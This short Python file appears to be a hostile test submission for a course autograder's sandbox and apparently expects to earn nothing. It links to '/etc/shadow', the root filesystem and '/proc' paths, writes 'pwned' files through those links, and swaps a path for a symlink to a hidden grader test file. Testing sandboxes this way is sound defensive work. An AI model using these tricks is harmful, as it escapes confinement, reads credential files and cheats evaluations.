"""Makes symbolic and hard links to the outside in its folder, and reads and writes through them.

machine
earns: nothing
"""

import os

loot = []
for number, target in enumerate(("/", "/etc/shadow", "/srv/course", "/tmp", "/proc/1/root", "/proc/self/fd/3", "../..")):
    name = f"link{number}"
    for make in (os.symlink, os.link):
        try:
            make(target, name)
            loot.append(os.listdir(name) if os.path.isdir(name) else open(name, "rb").read(100))
            with open(os.path.join(name, "pwned"), "w") as file:
                file.write("pwned")
        except OSError:
            continue


def sum_file(path):
    os.remove(path)
    os.symlink("/srv/course/tests/courses/tiny/solutions/adder/test_adder_hidden.py", path)
    with open(path) as file:
        return file.read()
